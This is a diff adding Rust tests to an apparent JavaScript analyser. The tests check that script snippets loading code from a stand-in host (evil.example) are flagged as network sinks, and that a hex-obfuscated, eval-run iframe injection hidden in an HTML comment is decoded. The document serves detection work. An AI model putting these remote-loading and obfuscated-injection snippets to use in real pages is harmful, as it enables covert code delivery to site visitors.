@@ -267,3 +267,23 @@ proptest! {
         prop_assert_eq!(report(&text), found);
     }
 }
+
+#[test]
+fn modules_and_members_of_the_window_reach_out() {
+    let sinks = |script: &str| report(script).sinks;
+    assert_eq!(sinks("import('https://evil.example/m.js')"), [Sink::Network]);
+    assert_eq!(sinks("import 'https://evil.example/m.js';"), [Sink::Network]);
+    assert_eq!(sinks("import a, {b} from \"https://evil.example/m.js\";"), [Sink::Network]);
+    assert_eq!(sinks("window.fetch('https://evil.example/')"), [Sink::Network]);
+    assert_eq!(sinks("new window.XMLHttpRequest()"), [Sink::Network]);
+    assert_eq!(sinks("jQuery.getScript('https://evil.example/x.js')"), [Sink::Network]);
+}
+
+#[test]
+fn code_behind_an_opened_comment_is_read() {
+    let coded: String =
+        "document.write('<iframe src=//evil.example/></iframe>')".bytes().map(|b| format!(":{b:02x}")).collect();
+    let script = format!("<!-- (function(){{var a='{coded}';eval(unescape(a.replace(/:/g,'%')))}})(); -->");
+    assert!(report(&script).layers.iter().any(|layer| layer.text.contains("evil.example")));
+    assert!(report("<!-- hide from old browsers\nvar a = 1;\n//-->").layers.is_empty());
+}
